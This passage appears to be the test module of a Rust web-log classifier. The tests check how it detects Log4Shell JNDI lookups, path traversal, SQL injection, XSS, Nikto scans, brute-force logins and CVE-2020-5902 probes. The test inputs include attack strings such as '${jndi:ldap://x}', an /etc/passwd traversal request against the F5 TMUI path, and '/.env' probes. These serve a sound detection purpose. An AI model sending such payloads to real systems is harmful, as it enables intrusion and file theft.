            "${version}",
            "${(#a=@org.apache.commons.io.ioutils@tostring(x))}",
            "${",
            "${jnd",
            "${lower:jndi}",
            "${java:version}${jndi",
            "${\njndi:x}",
            "${date:'",
            "${x}jndi:",
            "${lower:x}ndi:",
            "${${x:-n:-j}ndi:x}",
            "${${x:-j:-n}ndi:x}",
        ];
        for s in no {
            assert!(!log4j_jndi(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn swar_lowercase_agrees_with_std() {
        let all: Vec<u8> = (0..=255u8).collect();
        for shift in 0..9 {
            let s: Vec<u8> = all
                .iter()
                .cycle()
                .skip(shift)
                .take(300 - shift)
                .copied()
                .collect();
            let mut mine = s.clone();
            lower_in_place(&mut mine);
            assert_eq!(mine, s.to_ascii_lowercase());
            assert!(has_upper(&s));
        }
        for b in 0..=255u8 {
            let s = [b; 11];
            assert_eq!(has_upper(&s), b.is_ascii_uppercase(), "{b:#x}");
            assert_eq!(has_upper(&s[..3]), b.is_ascii_uppercase(), "{b:#x}");
        }
    }

    #[test]
    fn decoding_is_once_and_bounded() {
        let mut out = Vec::new();
        percent_decode_lower(b"%2E%2e%2F+%252e%zz%4", &mut out);
        assert_eq!(out, b"../ %2e%zz%4");
        out.clear();
        percent_decode_lower(b"UNION%0aSELECT%09%0D%41", &mut out);
        assert_eq!(out, b"union select  a");
        let mut s = Vec::new();
        assert_eq!(
            prepare(b"/plain/path", true, &mut s),
            (&b"/plain/path"[..], false)
        );
        assert!(
            s.is_empty(),
            "no copy for a lowercase field without escapes"
        );
        assert_eq!(prepare(b"/A%2f", true, &mut s), (&b"/a%2f\n/a/"[..], true));
        assert_eq!(
            prepare(b"Mozilla %41", false, &mut s),
            (&b"mozilla %41"[..], false)
        );
    }

    #[test]
    fn first_signature_is_the_lowest_index() {
        let (lc, ..) = run(
            "combined",
            &combined(
                "GET /tmui/login.jsp/..;/tmui/x?cmd=../../etc/passwd HTTP/1.1",
                200,
                "-",
            ),
        );
        assert_eq!(lc.exploit().unwrap().id, "cve-2020-5902");
        let ids: Vec<_> = lc.signatures().map(|(_, s)| s.id).collect();
        assert_eq!(ids, ["cve-2020-5902", "lfi-probe", "path-traversal"]);
        assert_eq!(lc.exploit_count(), 3);
        assert!(lc.exploit_succeeded());
        let (lc, ..) = run(
            "combined",
            &combined("GET /tmui/login.jsp/..;/x HTTP/1.1", 404, "-"),
        );
        assert!(!lc.exploit_succeeded());
    }

    #[test]
    fn bruteforce_needs_post_in_the_path() {
        let cases = [
            ("POST /wp-login.php HTTP/1.1", 200, true),
            ("GET /wp-login.php HTTP/1.1", 200, false),
            ("POST /search?next=/login HTTP/1.1", 200, false),
            ("GET /private HTTP/1.1", 401, true),
        ];
        for (req, status, want) in cases {
            let (lc, ..) = run("combined", &combined(req, status, "Mozilla/5.0"));
            assert_eq!(lc.has(ClassId::Bruteforce), want, "{req}");
        }
    }

    #[test]
    fn dummy_cannot_hide_an_attack() {
        let ua = "Apache/2.4.39 () (internal dummy connection)";
        let (lc, ..) = run("combined", "::1 - - [24/Dec/2020:18:58:33 +0900] \"OPTIONS * HTTP/1.0\" 200 - \"-\" \"Apache/2.4.39 () (internal dummy connection)\"");
        assert_eq!(lc.classes(), ClassSet::of(&[ClassId::Dummy]));
        let (lc, ..) = run("combined", &combined("GET / HTTP/1.0", 200, ua));
        assert_eq!(lc.classes(), ClassSet::of(&[ClassId::Dummy]));
        let (lc, ..) = run("combined", &combined("GET /.env HTTP/1.0", 200, ua));
        assert!(!lc.has(ClassId::Dummy) && lc.has(ClassId::Exploit));
        let (lc, ..) = run(
            "combined",
            &combined(
                "GET / HTTP/1.0",
                200,
                "${jndi:ldap://x} (internal dummy connection)",
            ),
        );
        assert!(!lc.has(ClassId::Dummy) && lc.has(ClassId::Exploit));
        let (lc, ..) = run("combined", &combined("OPTIONS * HTTP/1.0", 200, "-"));
        assert!(!lc.has(ClassId::Dummy), "not loopback, no marker");
    }

    #[test]
    fn error_records() {
        let f = preset("apache_error").unwrap();
        let line = b"[Thu Dec 24 18:58:33.123456 2020] [proxy_fcgi:error] [pid 32350] (70007)The timeout specified has expired: [client 136.175.9.211:41736] AH01075: Error dispatching request to : (polling), referer: http://x/../${jndi:x}";
        let mut rec = Record::default();
        f.parse(line, &mut rec).unwrap();
        let lc = Classifier::new().classify(&rec, &mut Vec::new());
        assert_eq!(lc.classes(), ClassSet::of(&[ClassId::UpstreamTimeout]));
    }

    #[test]
    fn hostile_fields_stay_linear() {
        // hardening E6.50: 100 000 `../`, 1 MiB of `%25`, 10 000 parameters.
        let c = Classifier::new();
        let mut scratch = Vec::new();
        let long = [
            "../".repeat(100_000),
            "%25".repeat((1 << 20) / 3),
            (0..10_000)
                .map(|i| format!("a{i}=%24%7b{i}&"))
                .collect::<String>(),
            "${".repeat(200_000),
            "${lower:".repeat(50_000),
        ];
        for t in &long {
            let rec = Record {
                method: b"GET",
                target: t.as_bytes(),
                user_agent: t.as_bytes(),
                referer: t.as_bytes(),
                ..Record::default()
            };
            let t0 = std::time::Instant::now();
            let lc = c.classify(&rec, &mut scratch);
            assert!(
                t0.elapsed().as_secs() < 5,
                "{} bytes took {:?}",
                t.len(),
                t0.elapsed()
            );
            let _ = lc.classes();
        }
    }

    #[test]
    fn scratch_is_reused() {
        let c = Classifier::new();
        let mut scratch = Vec::with_capacity(4096);
        let ptr = scratch.as_ptr();
        let rec = Record {
            method: b"GET",
            target: b"/A/%2e%2e/B?q=Union+Select",
            user_agent: b"Mozilla/5.0 (Nikto)",
            referer: b"http://X/?a=%3Cscript",
            ..Record::default()
        };
        let lc = c.classify(&rec, &mut scratch);
        assert_eq!(scratch.as_ptr(), ptr, "no reallocation");
        let ids: Vec<_> = lc.signatures().map(|(_, s)| s.id).collect();
        assert_eq!(ids, ["path-traversal", "sqli", "xss", "nikto"]);
    }
}
